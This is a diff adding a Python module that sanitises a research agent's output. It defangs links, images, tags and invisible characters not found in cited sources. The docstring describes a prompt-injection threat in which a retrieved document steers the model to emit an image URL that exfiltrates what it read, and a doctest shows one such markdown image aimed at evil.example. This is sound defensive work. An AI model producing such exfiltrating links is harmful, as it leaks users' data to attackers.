@@ -1,0 +1,141 @@
+"""What a model wrote, before anybody is shown it: nothing in it is fetched, followed or hidden.
+
+A document may tell the model to write an image whose address carries away what the model has read;
+whoever renders the answer would fetch it. So what is no part of a cited chunk, word for word, is
+broken: it can be read, and is neither a link nor an image nor a tag any more.
+"""
+
+import re
+import unicodedata
+from collections.abc import Callable, Mapping, Sequence
+from dataclasses import replace
+
+from research_agent.types.claims import Claim
+from research_agent.types.evidence import Evidence, source_of
+from research_agent.types.refinement import Refinement
+from research_agent.types.result import ResearchResult
+from research_agent.types.verification import Draft
+
+_TAG = re.compile(r"</?[A-Za-z][^<>]*>|<[A-Za-z][\w:-]*[\s/]+[^<>]*=|<[!?]")
+_LINK = re.compile(r"\](?:\([^()\s]*|:\s*\S+|\[[^\]]*\])")
+_ADDRESS = re.compile(
+    r"\b[A-Za-z][A-Za-z0-9+.-]*://(?=[^\s<>])(?:\[[0-9A-Fa-f:.]*\])?[^\s<>\"'`\[\]]*"
+)
+_SCRIPT = re.compile(
+    r"\b(?:javascript|vbscript|data|mailto|file|tel):(?=[^\s:])[^\s<>\"'`\[\]]+",
+    re.IGNORECASE,
+)
+_BARE = re.compile(r"\bwww\.[^\s<>\"'`\[\]]+", re.IGNORECASE)
+_TRAILING = ".,;:!?)]}*_"
+_GOES_ON = r"(?![\w-]|[.@:]\w)"  # (a longer address is another one)
+_JOINERS = re.compile("(?<=[^\x00-\x7f])[\u200c\u200d](?=[^\x00-\x7f\u200c\u200d])")
+_KEPT = frozenset("\n\t\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08e2")
+"""Control characters of plain text, and format characters that can be seen."""
+_BLANK = frozenset("\u034f\u115f\u1160\u17b4\u17b5\u2800\u3164\uffa0")
+"""Characters of other kinds of which nothing can be seen."""
+
+
+def gated(text: str, sources: Sequence[str] = ()) -> str:
+    """Return a model's text with what is in none of `sources`, word for word, shown as text.
+
+    >>> gated("See ![x](https://evil.example/p.png?d=KEY).")
+    'See ![x] (https[:]//evil[.]example/p.png?d=KEY).'
+    >>> gated("See <b>https://a.example</b>.", ["It is at https://a.example/."])
+    'See &lt;b>https://a.example&lt;/b>.'
+    """
+    text = seen(text)
+    text = _broken(_ADDRESS, text, _defanged, sources)
+    text = _broken(_SCRIPT, text, lambda found: found.replace(":", "[:]", 1), sources)
+    text = _broken(_BARE, text, lambda found: found.replace(".", "[.]"), sources)
+    text = _broken(_LINK, text, lambda found: f"] {found[1:]}", sources)
+    return _broken(_TAG, text, lambda found: found.replace("<", "&lt;"), sources)
+
+
+def seen(text: str) -> str:
+    r"""Return `text` without characters that nobody sees and that may hold a message of their own.
+
+    Joiners stay between letters of scripts that need them.
+
+    >>> seen("a\u200bb\U000e0041\ufe0fc\u202e \u0645\u06cc\u200c\u062e")
+    'abc م\u06cc\u200cخ'
+    """
+    plain = "".join(c for c in text if c in "\u200c\u200d" or not _is_unseen(c))
+    kept = {match.start() for match in _JOINERS.finditer(plain)}
+    return "".join(c for at, c in enumerate(plain) if c not in "\u200c\u200d" or at in kept)
+
+
+def gated_draft(draft: Draft, evidence: Sequence[Evidence]) -> Draft:
+    """Return a draft whose sentences may be shown, each against the chunks that it cites."""
+    texts = {item.key: source_of(item.hit.chunk) for item in evidence}
+    claims = tuple(_claim(claim, texts) for claim in draft.claims)
+    return replace(draft, claims=claims, missing=tuple(map(gated, draft.missing)))
+
+
+def gated_result(result: ResearchResult) -> ResearchResult:
+    """Return a result whose queries and notes may be shown; its sentences are gated before.
+
+    What the question itself says stays as it was asked.
+    """
+
+    def shown(text: str) -> str:
+        return gated(text, [result.question])
+
+    return replace(
+        result,
+        queries=tuple(map(shown, result.queries)),
+        refinement=_refinement(result.refinement, shown),
+        warnings=tuple(map(shown, result.warnings)),
+        unsaid=tuple(map(shown, result.unsaid)),
+    )
+
+
+def _claim(claim: Claim, texts: Mapping[str, str]) -> Claim:
+    sources = [texts[key] for key in claim.keys if key in texts]
+    return replace(
+        claim,
+        text=gated(claim.text, sources),
+        problem=gated(claim.problem, sources),
+    )
+
+
+def _refinement(refinement: Refinement, shown: Callable[[str], str]) -> Refinement:
+    return replace(
+        refinement,
+        queries=tuple(map(shown, refinement.queries)),
+        reason=shown(refinement.reason),
+        verdicts=tuple(replace(one, query=shown(one.query)) for one in refinement.verdicts),
+    )
+
+
+def _broken(
+    pattern: re.Pattern[str], text: str, change: Callable[[str], str], sources: Sequence[str]
+) -> str:
+    """Return `text` with each match changed that stands in none of the sources."""
+
+    def changed(match: re.Match[str]) -> str:
+        literal = match[0].rstrip(_TRAILING) or match[0]
+        whole = re.compile(re.escape(literal) + (_GOES_ON if literal[-1].isalnum() else ""))
+        tail = match[0][len(literal) :]
+        return match[0] if any(map(whole.search, sources)) else change(literal) + tail
+
+    return pattern.sub(changed, text)
+
+
+def _defanged(address: str) -> str:
+    """Return an address that can be read and not be followed.
+
+    >>> _defanged("https://a.example/b.png")
+    'https[:]//a[.]example/b.png'
+    """
+    scheme, _, rest = address.partition("://")
+    host, slash, path = rest.partition("/")
+    return f"{scheme}[:]//{host.replace('.', '[.]')}{slash}{path}"
+
+
+def _is_unseen(character: str) -> bool:
+    if character in _KEPT:
+        return False
+    number = ord(character)
+    selects = 0xFE00 <= number <= 0xFE0F or 0xE0000 <= number <= 0xE0FFF  # noqa: PLR2004 (variation selectors, and the tags' plane)
+    hidden = unicodedata.category(character) in {"Cc", "Cf", "Cs", "Co"}
+    return hidden or selects or character in _BLANK
